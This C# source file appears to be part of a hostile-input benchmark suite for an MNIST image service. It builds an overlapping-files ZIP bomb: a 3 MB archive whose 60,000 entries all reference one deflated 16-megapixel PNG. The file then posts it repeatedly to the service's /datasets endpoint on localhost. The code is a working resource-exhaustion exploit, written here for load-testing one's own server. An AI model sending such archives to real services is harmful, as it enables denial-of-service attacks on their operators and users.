using System.Buffers.Binary;
using System.IO.Compression;
using System.IO.Hashing;
using System.Text;
using MnistService.Drawings;
using MnistService.Model.Imaging;

namespace MnistService.Benchmarks.Hostile.Attacks;

/// <summary>
/// Uploads data sets of 3 MB that would need more than an hour of decoding: a ZIP archive with 60,000 entries that all refer to the same 16-megapixel image
/// (overlapping-files ZIP bomb).
/// </summary>
internal sealed record OverlappingZips(int Connections) : Attack($"overlapping-zips-{Connections}", Connections)
{
    private const int Entries = 60_000, Scale = 142, Side = 28 * Scale; // 3,976 pixels per side, just below 16 megapixels

    internal override Task RunAsync(AttackTarget target, CancellationToken ended)
    {
        var zip = Zip(LargeDigit());
        var head = $"POST /datasets HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/zip\r\nContent-Length: {zip.Length}\r\n\r\n";
        byte[] request = [.. Encoding.ASCII.GetBytes(head), .. zip];
        return target.OnEachConnectionAsync(Connections, async (connection, token) =>
        {
            await connection.SendAsync(request, token);
            await connection.ReadResponseAsync(token);
        }, ended);
    }

    /// <summary>
    /// A PNG of a 28×28 digit, each pixel enlarged to a black or white square. The file is so small that 60,000 copies are within the limit on unpacked bytes.
    /// </summary>
    private static byte[] LargeDigit()
    {
        var small = ImageReader.Read(MeasuredImages.Small(), ImageOptions.Default).Pixels.Span;
        var large = new byte[Side * Side];
        for (var y = 0; y < Side; y++)
            for (var x = 0; x < Side; x++) large[y * Side + x] = (byte)(small[y / Scale * 28 + x / Scale] >> 7);
        return new PngWriter().Header(Side, Side, 1, PngWriter.Grey).Data(PngWriter.PackedRows(large, Side, 1)).End().ToArray();
    }

    private static byte[] Zip(byte[] image)
    {
        var packed = new MemoryStream();
        using (var deflate = new DeflateStream(packed, CompressionLevel.SmallestSize, leaveOpen: true)) deflate.Write(image);
        // Version, flags, method (deflate), time, date, checksum, sizes and name length: identical in the local header and the central directory.
        var common = new byte[26];
        BinaryPrimitives.WriteUInt16LittleEndian(common, 20);
        BinaryPrimitives.WriteUInt16LittleEndian(common.AsSpan(4), 8);
        BinaryPrimitives.WriteUInt32LittleEndian(common.AsSpan(10), Crc32.HashToUInt32(image));
        BinaryPrimitives.WriteInt32LittleEndian(common.AsSpan(14), (int)packed.Length);
        BinaryPrimitives.WriteInt32LittleEndian(common.AsSpan(18), image.Length);
        var zip = new MemoryStream();
        BinaryPrimitives.WriteUInt16LittleEndian(common.AsSpan(22), (ushort)EntryName(0).Length);
        zip.Write([.. "PK\x03\x04"u8, .. common, .. EntryName(0), .. packed.ToArray()]);
        var directory = zip.Length;
        for (var entry = 0; entry < Entries; entry++)
            zip.Write([.. "PK\x01\x02\x14\x00"u8, .. common, .. new byte[14], .. EntryName(entry)]); // the offset of each local header is 0
        var end = new byte[22];
        "PK\x05\x06"u8.CopyTo(end);
        BinaryPrimitives.WriteUInt16LittleEndian(end.AsSpan(8), Entries);
        BinaryPrimitives.WriteUInt16LittleEndian(end.AsSpan(10), Entries);
        BinaryPrimitives.WriteInt32LittleEndian(end.AsSpan(12), (int)(zip.Length - directory));
        BinaryPrimitives.WriteInt32LittleEndian(end.AsSpan(16), (int)directory);
        zip.Write(end);
        return zip.ToArray();
    }

    private static byte[] EntryName(int entry) => Encoding.ASCII.GetBytes($"3/{entry:D5}.png");
}
